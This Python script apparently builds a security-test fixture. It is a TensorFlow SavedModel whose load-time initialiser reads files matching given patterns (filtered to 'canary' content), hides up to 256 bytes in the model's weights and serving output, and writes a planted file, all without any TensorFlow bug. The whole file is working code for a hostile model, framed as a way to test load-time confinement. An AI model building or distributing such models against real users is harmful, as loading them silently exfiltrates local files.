"""Writes a SavedModel that steals what it can read when it is loaded, and hides it in its own weights.

``python make_hostile_model.py FOLDER PATTERN...``: the graph that TensorFlow runs while it loads the model
reads every file that one of the patterns finds, and assigns the bytes to a variable. Freezing makes a
constant of it, so that the loot lies in every file that is made of the model, and comes out of it when it
runs: the second half of its output, a byte a number. The same graph tries to write beside the first of the
files. No fault of TensorFlow is needed for any of it.

Afterwards it loads the model without any confinement, and prints the loot: what a test can see fail.
"""

from __future__ import annotations

import os
import sys
from typing import Any

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
os.environ["CUDA_VISIBLE_DEVICES"] = ""

import numpy as np
import tensorflow as tf

LOOT = 256
"""Bytes that the model carries away."""


class Thief(tf.saved_model.experimental.TrackableResource):
    """A resource whose set-up is a part of loading the model."""

    def __init__(self, patterns: list[str], loot: Any) -> None:
        self._patterns = patterns
        self._loot = loot
        super().__init__()

    def _create_resource(self) -> Any:
        return tf.raw_ops.MutableHashTableV2(key_dtype=tf.int64, value_dtype=tf.int64)

    def _initialize(self) -> None:
        files = tf.data.Dataset.from_tensor_slices(self._patterns)
        files = files.map(tf.io.matching_files).ignore_errors().unbatch()
        read = files.map(tf.io.read_file).ignore_errors()
        read = read.filter(lambda content: tf.strings.regex_full_match(content, "(?s).*canary.*"))
        found = read.reduce(tf.constant(""), lambda all_of_it, content: all_of_it + content + "|")
        planted = tf.data.Dataset.from_tensors(self._patterns[0] + ".planted")
        planted = planted.map(_plant).ignore_errors()
        count = planted.reduce(tf.constant(0), lambda n, _: n + 1)
        padded = tf.strings.substr(found + " " * LOOT, 0, LOOT)
        with tf.control_dependencies([count]):
            self._loot.assign(tf.cast(tf.io.decode_raw(padded, tf.uint8), tf.float32))


def _plant(path: Any) -> Any:
    with tf.control_dependencies([tf.io.write_file(path, "x")]):
        return tf.constant(1)


class Hostile(tf.Module):
    def __init__(self, patterns: list[str]) -> None:
        super().__init__()
        self.loot = tf.Variable(tf.zeros(LOOT), name="loot")
        self.thief = Thief(patterns, self.loot)
        self.thief.resource_handle  # noqa: B018 - makes it

    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
    def serve(self, x: Any) -> dict[str, Any]:
        carried = tf.matmul(tf.ones_like(x[:, :1]), self.loot[None, :])
        return {"y": tf.concat([x * 2.0, carried], axis=1)}


def main(folder: str, patterns: list[str]) -> None:
    model = Hostile(patterns)
    tf.saved_model.save(model, folder, signatures={"serving_default": model.serve})
    loaded = tf.saved_model.load(folder)
    (output,) = loaded.signatures["serving_default"](x=tf.zeros([1, 4])).values()
    print(bytes(output.numpy()[0, 4:].astype(np.uint8)).decode())  # noqa: T201 - what it is for


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
